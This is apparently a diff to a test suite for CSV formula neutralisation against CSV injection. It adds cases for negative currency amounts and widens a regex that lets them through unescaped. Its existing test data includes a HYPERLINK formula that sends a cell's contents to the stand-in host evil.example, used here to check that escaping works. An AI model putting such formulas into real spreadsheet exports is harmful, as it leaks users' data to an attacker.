@@ -27,6 +27,10 @@ describe('CSV formula neutralisation (OWASP CSV injection; PITFALLS C1)', () => 
     ['a plus before digits: Excel would read a number and drop the +', text('+8613812345678'), `"'+8613812345678"`],
     ['a HYPERLINK that could leak data', text('=HYPERLINK("http://evil.example/?"&A1,"点击")'), `"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`],
     ['-5 as a number is a value, not a formula', num(-5), '-5'],
+    ['a refund kept in pounds: -£200, a number Excel reads, no apostrophe', { kind: 'number', value: -200, format: '"£"#,##0' }, '-£200'],
+    ['a credit in euros with a decimal comma', { kind: 'number', value: -1234.5, format: '[$-407]#,##0.00" €"' }, '"-1234,50 €"'],
+    ['-£200 typed as text, the same', text('-£200'), '-£200'],
+    ['a minus before a cell reference stays escaped (-E2, -RMB3000 are references)', text('-RMB3000'), `"'-RMB3000"`],
     ['an amount', num(12800.5), '12800.5'],
     ['a trigger later in the text', text('safe=safe'), 'safe=safe'],
     ['a full-width equals sign (no spreadsheet evaluates it)', text('＝1+1'), '＝1+1'],
@@ -51,7 +55,7 @@ describe('CSV formula neutralisation (OWASP CSV injection; PITFALLS C1)', () => 
         // What a spreadsheet sees: the fields as they are in the file.
         const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ',' }).data[0] ?? [];
         parsed.forEach((value) => {
-          if (/^-\d[\d,]*(?:\.\d+)?%?$|^-+$/.test(value)) return;
+          if (/^-\p{Sc}?\d[\d,]*(?:[.,]\d+)?(?:\s?\p{Sc})?%?$|^-+$/u.test(value)) return;
           expect(/^[=+\-@\t\r\n]/.test(value)).toBe(false);
         });
       }),
